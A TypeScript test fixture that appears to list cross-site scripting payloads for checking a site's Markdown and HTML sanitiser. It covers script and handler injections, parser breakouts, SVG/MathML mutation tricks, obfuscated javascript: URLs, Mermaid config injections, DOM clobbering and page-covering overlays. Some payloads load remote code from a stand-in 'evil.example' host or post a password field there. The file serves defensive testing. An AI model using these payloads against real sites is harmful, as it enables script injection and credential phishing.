/** Markdown of a record that tries to run a script, arm an element, cover the page or pass for a part of the site. */
export interface Payload {
  readonly name: string;
  readonly text: string;
}

/** What a payload runs: the page under test counts the calls. */
export const CODE = 'window.hit=1,alert(1)';

const js = `javascript:${CODE}`;

/** Attribute names of events that fire without anybody's doing, or on the least touch. */
const HANDLERS = [
  ...['onerror', 'onload', 'onclick', 'onmouseover', 'onfocus', 'onfocusin', 'onpointerover'],
  ...['onanimationstart', 'ontransitionrun', 'ontoggle', 'onbeforetoggle', 'onscrollend'],
  ...['onloadstart', 'oncanplay', 'onwheel', 'oncontentvisibilityautostatechange', 'onbegin'],
];

/** Elements that carry handlers, each with what makes it fire. */
const CARRIERS: readonly (readonly [open: string, rest: string])[] = [
  ['img src=x', ''],
  ['video autoplay', '<source src=x></video>'],
  ['audio src=x', '</audio>'],
  ['details open', '<summary>a</summary></details>'],
  ['div tabindex=0 autofocus', 'a</div>'],
  ['a href=#a autofocus', 'a</a>'],
  ['table', '<tr><td>a</table>'],
  ['svg', '<circle r=9></svg>'],
  ['custom-element', '</custom-element>'],
  ['body', ''],
];

const ELEMENTS = [
  `<script>${CODE}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script type=module>${CODE}</script>`,
  `<ScRiPt >${CODE}</sCrIpT >`,
  `<script/x>${CODE}</script>`,
  `<script\n>${CODE}</script\n>`,
  `<script>${CODE}`,
  `<<script>${CODE}</script>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<style>@import 'https://evil.example/x.css';body{display:none}</style>`,
  `<style>*{animation:x 1s}@keyframes x{}</style><b onanimationend="${CODE}">a</b>`,
  `<link rel=stylesheet href="https://evil.example/x.css">`,
  `<link rel=prefetch href="https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=https://evil.example/">`,
  `<meta http-equiv=refresh content="0;url=${js}">`,
  `<meta http-equiv=content-security-policy content="script-src *">`,
  `<base href="https://evil.example/">`,
  `<base target=_blank>`,
  `<iframe src="${js}"></iframe>`,
  `<iframe srcdoc="<script>parent.${CODE}</script>"></iframe>`,
  `<iframe src="https://evil.example/"></iframe>`,
  `<frameset onload="${CODE}"><frame src="${js}"></frameset>`,
  `<object data="${js}"></object>`,
  `<object data="data:text/html,<script>${CODE}</script>"></object>`,
  `<embed src="${js}">`,
  `<applet code=x></applet>`,
  `<form action="${js}"><button>Go</button></form>`,
  `<form action="https://evil.example/"><input name=password type=password><button>Sign in</button></form>`,
  `<button formaction="${js}" form=log-filters>Go</button>`,
  `<input type=image src=x onerror="${CODE}">`,
  `<input autofocus onfocus="${CODE}">`,
  `<select autofocus onfocus="${CODE}"><option>a</select>`,
  `<textarea autofocus onfocus="${CODE}">a</textarea>`,
  `<keygen autofocus onfocus="${CODE}">`,
  `<isindex type=image src=1 onerror="${CODE}">`,
  `<marquee onstart="${CODE}">a</marquee>`,
  `<dialog open style="position:fixed;inset:0">a</dialog>`,
  `<portal src="https://evil.example/"></portal>`,
  `<fencedframe src="https://evil.example/"></fencedframe>`,
  `<template shadowrootmode=open><script>${CODE}</script></template>`,
  `<div><template shadowrootmode=open><slot></slot><style>:host{position:fixed;inset:0}</style></template></div>`,
  `<bgsound src="${js}">`,
  `<layer src="https://evil.example/x.js"></layer>`,
  `<xml id=x><x>a</x></xml>`,
  `<image src=x onerror="${CODE}">`,
  `<plaintext>`,
  `<xmp><script>${CODE}</script></xmp>`,
  `<noembed><script>${CODE}</script></noembed>`,
  `<html onclick="${CODE}"><head></head>`,
  `<head><script>${CODE}</script></head>`,
];

const BREAKOUTS = [
  `<div x=a" ><script>${CODE}</script>`,
  `<div x='a" ><script>${CODE}</script>'>`,
  `<b title="</b><script>${CODE}</script>">a</b>`,
  `<b title='"><script>${CODE}</script>'>a</b>`,
  `<b title="--><script>${CODE}</script>">a</b>`,
  `<b title="</title><script>${CODE}</script>">a</b>`,
  `<b title="</textarea><script>${CODE}</script>">a</b>`,
  `<b title="</noscript><img src=x onerror=${CODE}>">a</b>`,
  `<b title="</style><img src=x onerror=${CODE}>">a</b>`,
  `<b title=\`><script>${CODE}</script>\`>a</b>`,
  `<textarea><b title="</textarea><img src=x onerror=${CODE}>">`,
  `<title><b title="</title><img src=x onerror=${CODE}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<noscript><style></noscript><img src=x onerror=${CODE}></style></noscript>`,
  `<style><b title="</style><img src=x onerror=${CODE}>">`,
  `<xmp><b title="</xmp><img src=x onerror=${CODE}>">`,
  `<iframe><b title="</iframe><img src=x onerror=${CODE}>">`,
  `<noframes><b title="</noframes><img src=x onerror=${CODE}>">`,
  `<!--><img src=x onerror=${CODE}>-->`,
  `<!---><img src=x onerror=${CODE}>-->`,
  `<!-- --!><img src=x onerror=${CODE}>-->`,
  `<!-- <!-- --><script>${CODE}</script>`,
  `<b title="<!-- ">a</b><script>${CODE}</script><b title=" -->">`,
  `<![CDATA[><img src=x onerror=${CODE}>]]>`,
  `<?x ><img src=x onerror=${CODE}>?>`,
  `<!doctype html><script>${CODE}</script>`,
  `</textarea><script>${CODE}</script>`,
  `</noscript><script>${CODE}</script>`,
  `</title><script>${CODE}</script>`,
  `</div></div></main></body></html><script>${CODE}</script>`,
  `<div\n\nonclick="${CODE}">a</div>`,
  `<div title="\n\n" onclick="${CODE}">a</div>`,
  `<b title="a\nb" onclick="${CODE}">a</b>`,
  `<details><summary>\n\n</summary onclick="x">\n\n<p onclick="${CODE}">\n\n</details>`,
  `<a href="x"\nonclick="${CODE}">a</a>`,
  `<img src=x\tonerror\n=\n"${CODE}">`,
  `<img src=x/onerror=${CODE}>`,
  `<img/src=x/onerror=${CODE}>`,
  `<img src="x"onerror="${CODE}">`,
  `<img """><script>${CODE}</script>">`,
  `<img src=x one\u0000rror="${CODE}" onerror="${CODE}">`,
  `<p title="a&quot; onclick=${CODE}">a</p>`,
  `| a | b |\n| - | - |\n| <b title="\\|" onclick="${CODE}">c</b> | d |`,
  `> <div x="\n> "><script>${CODE}</script>`,
  `- <b title="\n- " onclick="${CODE}">`,
  `## Heading <img src=x onerror="${CODE}">`,
  `[text <img src=x onerror="${CODE}">](a.md)`,
  `[^n]\n\n[^n]: <img src=x onerror="${CODE}">`,
  `> [!NOTE]\n> <img src=x onerror="${CODE}">`,
  `![" onerror="${CODE}](x.png)`,
  `![x](x.png '" onerror="${CODE}')`,
  `[x](a.md '"><script>${CODE}</script>')`,
  `[x]: <${js}>\n\n[x]`,
  `\`\`\`"><script>${CODE}</script>\nx\n\`\`\``,
  `\`\`\`js title="</code><script>${CODE}</script>"\nx\n\`\`\``,
  `\`\`\`mermaid\nflowchart TD\n  a["<img src=x onerror=${CODE}>"] --> b\n  click a "${js}"\n\`\`\``,
  `\`\`\`mermaid\nsequenceDiagram\n  A->>B: <script>${CODE}</script>\n\`\`\``,
  `\`\`\`mermaid\n%%{init:{"securityLevel":"loose","htmlLabels":true,"themeCSS":"}</style><img src=x onerror=${CODE}>"}}%%\nclassDiagram\n  class A["<img src=x onerror=${CODE}>"]\n  A : <script>${CODE}</script>\n  click A href "${js}" "<svg onload=${CODE}>"\n\`\`\``,
  `\`\`\`mermaid\n---\ntitle: "<img src=x onerror=${CODE}>"\n---\ngantt\n  section </style></svg><script>${CODE}</script>\n  A :click, a1, 2026-01-01, 3d\n  click a1 call eval("${CODE}")\n\`\`\``,
  `\`\`\`mermaid\n%%{init:{'securityLevel':'loose'}}%%\nunknown <script>${CODE}</script>\n\`\`\``,
];

const FOREIGN = [
  `<svg><script>${CODE}</script></svg>`,
  `<svg onload="${CODE}"></svg>`,
  `<svg><a xlink:href="${js}"><text y=9>a</text></a></svg>`,
  `<svg><a><animate attributeName=href values="${js}"/><text y=9>a</text></a></svg>`,
  `<svg><set attributeName=onmouseover to="${CODE}"/></svg>`,
  `<svg><foreignObject><img src=x onerror="${CODE}"></foreignObject></svg>`,
  `<svg><style><img src=x onerror="${CODE}"></style></svg>`,
  `<svg></p><style><a id="</style><img src=x onerror=${CODE}>">`,
  `<svg><title><a id="</title><img src=x onerror=${CODE}>"></title></svg>`,
  `<svg><desc><b onclick="${CODE}">a</b></desc></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${CODE}</script></svg>#x"/></svg>`,
  `<svg><image href=x onerror="${CODE}"/></svg>`,
  `<svg style="position:fixed;inset:0;width:100vw;height:100vh"><rect width=100% height=100% /></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${CODE}&gt;">`,
  `<math><mtext><mglyph><style><img src=x onerror="${CODE}">`,
  `<math><annotation-xml encoding="text/html"><script>${CODE}</script></annotation-xml></math>`,
  `<math href="${js}">a</math>`,
  `<math><maction actiontype=statusline xlink:href="${js}">a</maction></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${CODE}">`,
  `<svg><math><svg><script>${CODE}</script>`,
  `<math><svg><math><mi><img src=x onerror="${CODE}">`,
  `<table><svg><td><style><img src=x onerror="${CODE}">`,
  `<a><table><a><svg><script>${CODE}</script>`,
  `<b><p><b><svg onload="${CODE}">`,
  `<select><template><svg><script>${CODE}</script></template></select>`,
  `<noscript><svg><noscript><img src=x onerror="${CODE}">`,
];

const ADDRESSES = [
  js,
  `JaVaScRiPt:${CODE}`,
  ` ${js}`,
  `java\tscript:${CODE}`,
  `java\nscript:${CODE}`,
  `\u0001${js}`,
  `&#x0000006a;avascript:${CODE}`,
  `&#106avascript:${CODE}`,
  `java&#x09;script:${CODE}`,
  `java&NewLine;script&colon;${CODE}`,
  `&#14;${js}`,
  `javascript&#0000058${CODE}`,
  `javascript://example.com/%0A${CODE}`,
  `view-source:${js}`,
  `feed:${js}`,
  `vbscript:msgbox(1)`,
  `livescript:${CODE}`,
  `data:text/html,<script>${CODE}</script>`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `data:image/svg+xml,<svg onload='${CODE}' xmlns='http://www.w3.org/2000/svg'/>`,
  `blob:https://evil.example/x`,
  `filesystem:https://evil.example/x`,
  `file:///etc/passwd`,
  `intent://x#Intent;scheme=javascript;end`,
];

const COVERS = [
  `<div style="position:fixed;inset:0;background:#fff;z-index:9999">Sign in</div>`,
  `<a href="https://evil.example/" style="position:fixed;inset:0">a</a>`,
  `<div style="pos\\69tion:fixed;inset:0">a</div>`,
  `<b style="background:url(https://evil.example/x)">a</b>`,
  `<p style="font-size:9999px">a</p>`,
  `<div class="sl-flex page header" id=cover>a</div>`,
  `<div class="search-dialog sl-banner sidebar-pane">a</div>`,
  `<aside class="alert warning"><p class="alert-title">Forged</p></aside>`,
  `<span class="status status-accepted">Accepted</span>`,
  `<span class="sr-only">hidden from sight</span>`,
  `<h2 class="sr-only" id="footnote-label">hidden from sight</h2>`,
  `<div class="claim not-content" id="claim-executed"><details class="verdict"><summary>Upheld</summary></details></div>`,
  `<div class="pros-cons"><div class="pros">a</div></div>`,
  `<table data-docket-order="0"><tr><td>a</td></tr></table>`,
  `<h3 data-docket-offset="0">a</h3>`,
  `<b data-own="0" data-ownmade="0" data-ownn="1">a</b>`,
  `<figure class="diagram"><div class="diagram-canvas">a</div></figure>`,
  `<div popover id=p>a</div><a popovertarget=p href=#p>b</a>`,
  `<div contenteditable autofocus>a</div>`,
  `<img src=x usemap=#m width=9999 height=9999><map name=m><area shape=default href="${js}"></map>`,
  `<div role=dialog aria-modal=true aria-live=assertive>a</div>`,
  `<site-search data-base="https://evil.example/"></site-search>`,
  `<docket-log data-rows="https://evil.example/x.json"></docket-log>`,
  `<docket-theme onclick="${CODE}"></docket-theme>`,
  `<a target=_blank ping="https://evil.example/" href="https://example.com/">a</a>`,
  `<td background="${js}">a</td>`,
  `<table background="${js}"><tr><td>a</table>`,
  `<img lowsrc="${js}" dynsrc="${js}" src=x>`,
  `<q cite="${js}">a</q>`,
  `<img longdesc="${js}" src=x alt=a>`,
  `<img srcset="${js} 1x, data:text/html,x 2x" alt=a>`,
  `<video poster="${js}" src="${js}"></video>`,
  `<picture><source srcset="data:image/svg+xml,<svg onload='${CODE}'/>"><img alt=a src=x></picture>`,
];

const NAMES = [
  ...['location', 'body', 'forms', 'cookie', 'getElementById', 'documentElement'],
  ...['starlight__sidebar', 'starlight__on-this-page', '_top', 'search-results', 'customElements'],
];

const named = (texts: readonly string[], kind: string): Payload[] =>
  texts.map((text, index) => ({ name: `${kind} ${index + 1}`, text }));

/** Kinds of attack that are known to the public, each in several forms. */
export const PAYLOADS: readonly Payload[] = [
  ...named(ELEMENTS, 'element'),
  ...named(BREAKOUTS, 'breakout'),
  ...named(FOREIGN, 'foreign'),
  ...named(COVERS, 'cover'),
  ...HANDLERS.map((handler, index) => {
    const [open, rest] = CARRIERS[index % CARRIERS.length] ?? ['b', ''];
    return { name: `handler ${handler}`, text: `<${open} ${handler}="${CODE}">${rest}` };
  }),
  ...ADDRESSES.flatMap((address, index) => [
    { name: `address ${index + 1} in HTML`, text: `<a href="${address}">a</a>` },
    {
      name: `address ${index + 1} in Markdown`,
      text: `[a](<${address.replace(/\n/g, '&#10;').replace(/[<>]/g, '')}>)`,
    },
  ]),
  ...NAMES.flatMap((name) => [
    { name: `name ${name}`, text: `<a id="${name}" name="${name}" href="${js}">a</a>` },
    { name: `named image ${name}`, text: `<img name="${name}" id="${name}" src=x alt=a>` },
  ]),
];

/** HTML that GitHub shows, and a record may use. */
export const ORDINARY = `<details open>
<summary>More</summary>

Inside **bold** <kbd>Ctrl</kbd> H<sub>2</sub>O x<sup>2</sup> <ins>new</ins> <del>old</del>

</details>

<table><thead><tr><th align="right">Head</th></tr></thead><tbody><tr><td colspan="2">Cell</td></tr></tbody></table>

<picture><source srcset="dot.svg" media="(min-width: 1px)"><img src="dot.svg" alt="A dot" width="40"></picture>

<a name="own-anchor"></a>[To the anchor](#own-anchor) and a note.[^note]

- [x] Done
- [ ] Open

<div align="center">Centred</div>

[^note]: The text of the note.
`;
